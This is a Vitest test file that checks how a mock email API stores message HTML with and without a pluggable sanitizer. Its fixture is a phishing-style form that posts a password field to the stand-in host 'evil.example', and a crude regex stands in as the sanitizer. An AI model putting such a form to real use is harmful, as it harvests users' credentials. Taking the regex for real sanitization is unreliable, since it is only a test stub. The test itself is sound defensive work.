import { afterEach, describe, expect, it } from 'vitest';
import { createSeed } from '@atrium/fixtures';
import { sendEmail } from './email';
import { setHtmlSanitizer } from '@atrium/domain';

const HOSTILE = '<p>Hi</p><form action="https://evil.example"><input type="password"></form>';
const stripForms = (html: string) => html.replace(/<form[\s\S]*<\/form>/g, '');

afterEach(() => setHtmlSanitizer(undefined));

describe('@atrium/mock-api/setHtmlSanitizer', () => {
  it('the browser mock stores HTML as sent (screens sanitise it when they show it)', () => {
    const db = createSeed();
    const sent = sendEmail(db, { to: ['a@b.example'], message: HOSTILE });
    expect(sent.ok && sent.value.message).toBe(HOSTILE);
  });

  it('with a sanitizer plugged in (the server), the stored body is the clean one and other fields are as sent', () => {
    setHtmlSanitizer(stripForms);
    const db = createSeed();
    const sent = sendEmail(db, { to: ['a@b.example'], subject: '<form>subject</form>', message: HOSTILE });
    expect(sent.ok).toBe(true);
    const stored = db.emails.at(-1);
    expect(stored?.message).toBe('<p>Hi</p>');
    expect(stored?.subject).toBe('<form>subject</form>');
  });
});
